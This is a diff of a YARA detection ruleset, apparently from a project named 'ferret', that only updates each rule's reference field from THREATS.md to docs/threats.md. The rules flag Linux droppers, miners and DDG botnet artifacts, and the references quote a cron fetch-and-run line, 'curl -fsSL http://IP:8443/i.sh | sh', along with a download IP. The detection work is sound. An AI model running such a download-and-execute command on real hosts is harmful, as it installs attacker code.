@@ -10,7 +10,7 @@ rule Ferret_Cron_Download_Pipe_Shell : dropper cron linux
    meta:
       description = "Cron entry that periodically downloads a script and pipes it into a shell (curl|sh, wget -O-|sh)"
       author = "ferret"
-      reference = "THREATS.md case 5 (*/5 * * * * curl -fsSL http://IP:8443/i.sh | sh); T1053.003, T1105"
+      reference = "docs/threats.md#case-5 (*/5 * * * * curl -fsSL http://IP:8443/i.sh | sh); T1053.003, T1105"
       date = "2026-11-22"
       score = 85
       mitre_attack = "T1053.003"
@@ -27,7 +27,7 @@ rule Ferret_Dropper_Download_Exec_From_IP : dropper linux
    meta:
       description = "Script downloading from a bare IP address and executing it: piped into a shell, or saved to a temp dir and made executable"
       author = "ferret"
-      reference = "THREATS.md case 5 (curl/wget from 218.248.40.228:8443); T1105 Ingress Tool Transfer"
+      reference = "docs/threats.md#case-5 (curl/wget from 218.248.40.228:8443); T1105 Ingress Tool Transfer"
       date = "2026-11-22"
       score = 75
       mitre_attack = "T1105"
@@ -46,7 +46,7 @@ rule Ferret_Dropper_Base64_Exec : dropper linux
    meta:
       description = "Script decoding base64 straight into a shell or into Python exec()"
       author = "ferret"
-      reference = "THREATS.md techniques (base64-decode pipes); T1140 Deobfuscate/Decode, T1059.004 Unix Shell"
+      reference = "docs/threats.md#techniques (base64-decode pipes); T1140 Deobfuscate/Decode, T1059.004 Unix Shell"
       date = "2026-11-22"
       score = 75
       mitre_attack = "T1140"
@@ -65,7 +65,7 @@ rule Ferret_Dropper_Kills_Competing_Miners : dropper miner linux
    meta:
       description = "Script killing competing miners: several pkill/killall/grep|kill lines aimed at known miner names or pool ports"
       author = "ferret"
-      reference = "THREATS.md techniques (miner campaigns clear rivals before starting their own); T1489 Service Stop, T1496"
+      reference = "docs/threats.md#techniques (miner campaigns clear rivals before starting their own); T1489 Service Stop, T1496"
       date = "2026-11-22"
       score = 75
       mitre_attack = "T1496"
@@ -84,7 +84,7 @@ rule Ferret_Dropper_Impairs_Defenses : dropper linux
    meta:
       description = "Script that switches off security controls (SELinux, ufw/firewalld, cloud security agents, NMI watchdog) AND wipes logs or shell history"
       author = "ferret"
-      reference = "THREATS.md case 3 (wiped log gap), case 4; T1562.001 Disable or Modify Tools, T1070.002 Clear Linux Logs"
+      reference = "docs/threats.md#case-3 (wiped log gap), case 4; T1562.001 Disable or Modify Tools, T1070.002 Clear Linux Logs"
       date = "2026-11-22"
       score = 75
       mitre_attack = "T1562.001"
@@ -117,7 +117,7 @@ rule Ferret_Dropper_Chattr_Lock_Persistence : dropper linux
    meta:
       description = "Script making cron, authorized_keys, ld.so.preload or rc.local immutable (chattr +i/+a) so the persistence cannot be removed"
       author = "ferret"
-      reference = "THREATS.md case 3/5 (cron re-infection); T1222.002 Linux File Permissions Modification"
+      reference = "docs/threats.md#case-3, #case-5 (cron re-infection); T1222.002 Linux File Permissions Modification"
       date = "2026-11-22"
       score = 70
       mitre_attack = "T1222.002"
@@ -134,7 +134,7 @@ rule Ferret_DDG_Botnet_Artifacts : dropper miner linux
    meta:
       description = "DDG botnet downloader/guardian: its hosts together with its file names (i.sh, ddg.<version>, wnTKYg)"
       author = "ferret"
-      reference = "THREATS.md case 5 (DDG botnet miner); T1105, T1496"
+      reference = "docs/threats.md#case-5 (DDG botnet miner); T1105, T1496"
       date = "2026-11-22"
       score = 90
       mitre_attack = "T1105"
